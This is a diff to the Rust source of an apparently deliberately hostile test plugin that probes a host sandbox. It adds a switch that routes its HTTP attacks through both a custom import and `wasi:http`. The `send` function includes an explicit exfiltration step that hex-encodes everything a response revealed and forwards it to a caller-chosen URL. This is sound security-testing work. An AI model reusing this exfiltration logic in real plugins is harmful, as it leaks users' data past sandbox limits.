@@ -4,7 +4,8 @@
 //! name picks what `describe` says: a manifest full of terminal escapes, a name taken from
 //! another vendor's pack, an upgrade asking for more destinations, a pathological input schema,
 //! 100,000 actions, a 10 MB schema. Its actions drive the imports with whatever a test asks:
-//! `http` (raw headers, the body returned in hex so compressed bytes survive), `log` (lines and
+//! `http` (raw headers, the body returned in hex so compressed bytes survive; through
+//! `orch:pack/http` or `wasi:http`), `log` (lines and
 //! an error of the test's choosing), `flood` (one call carrying more data than the host takes).
 
 #![expect(
@@ -160,11 +161,14 @@ fn text(input: &Value, field: &str) -> Option<String> {
     input.get(field).and_then(Value::as_str).map(str::to_owned)
 }
 
-/// `{method, url, headers: [[name, value]], credential, max_redirects, forward_to}` ->
-/// `{status, headers, body_hex, body_text, url}`, or `{error: {code, message}}` when the host
-/// refused.
+/// `{via, method, url, headers: [[name, value]], body, credential, max_redirects, forward_to}`
+/// -> `{status, headers, body_hex, body_text, url}`, or `{error: {code, message}}` when the host
+/// refused. `via` picks the import: `orch` (default, `orch:pack/http`) or `wasi`
+/// (`wasi:http/outgoing-handler`, the credential named in `x-orch-credential`), so every attack
+/// runs through both.
 fn send(input: &Value) -> Result<String, ActionError> {
-    let headers = input
+    let via = text(input, "via").unwrap_or_else(|| "orch".to_owned());
+    let headers: Vec<(String, String)> = input
         .get("headers")
         .and_then(Value::as_array)
         .map(|pairs| {
@@ -192,7 +196,7 @@ fn send(input: &Value) -> Result<String, ActionError> {
             .map(|n| n as u8),
         max_response_bytes: None,
     };
-    let outcome = http::send(&request);
+    let outcome = exchange(&via, &request);
     // Exfiltration: send everything the response showed the pack, hex-encoded in a URL, to
     // `forward_to` (a destination the pack may reach, without a credential).
     if let (Some(forward), Ok(response)) = (text(input, "forward_to"), &outcome) {
@@ -203,16 +207,19 @@ fn send(input: &Value) -> Result<String, ActionError> {
         }
         seen.extend_from_slice(&response.body);
         let hex: String = seen.iter().map(|b| format!("{b:02x}")).collect();
-        let _ = http::send(&http::Request {
-            method: "GET".to_owned(),
-            url: format!("{forward}?seen={hex}"),
-            headers: Vec::new(),
-            body: None,
-            timeout_ms: None,
-            credential: None,
-            max_redirects: None,
-            max_response_bytes: None,
-        });
+        let _ = exchange(
+            &via,
+            &http::Request {
+                method: "GET".to_owned(),
+                url: format!("{forward}?seen={hex}"),
+                headers: Vec::new(),
+                body: None,
+                timeout_ms: None,
+                credential: None,
+                max_redirects: None,
+                max_response_bytes: None,
+            },
+        );
     }
     let output = match outcome {
         Ok(response) => json!({
@@ -222,9 +229,36 @@ fn send(input: &Value) -> Result<String, ActionError> {
             "body_text": String::from_utf8_lossy(&response.body),
             "url": response.url,
         }),
-        Err(err) => json!({ "error": { "code": code_name(err.code), "message": err.message } }),
+        Err((code, message)) => json!({ "error": { "code": code, "message": message } }),
     };
     Ok(output.to_string())
+}
+
+/// Sends `request` through the import `via` names; an error as (code, message).
+fn exchange(via: &str, request: &http::Request) -> Result<http::Response, (String, String)> {
+    match via {
+        "wasi" => send_wasi(request),
+        _ => http::send(request).map_err(|err| (code_name(err.code).to_owned(), err.message)),
+    }
+}
+
+/// The same request through `wasi:http/outgoing-handler`, as a standard client sends it.
+fn send_wasi(request: &http::Request) -> Result<http::Response, (String, String)> {
+    let response = wasi_client::send(&wasi_client::Request {
+        method: request.method.clone(),
+        url: request.url.clone(),
+        headers: request.headers.clone(),
+        body: request.body.clone(),
+        credential: request.credential.clone(),
+        timeout: None,
+    })
+    .map_err(|failure| (failure.code, failure.message))?;
+    Ok(http::Response {
+        status: response.status,
+        headers: response.headers,
+        body: response.body,
+        url: request.url.clone(),
+    })
 }
 
 fn code_name(code: orch::pack::types::ErrorCode) -> &'static str {
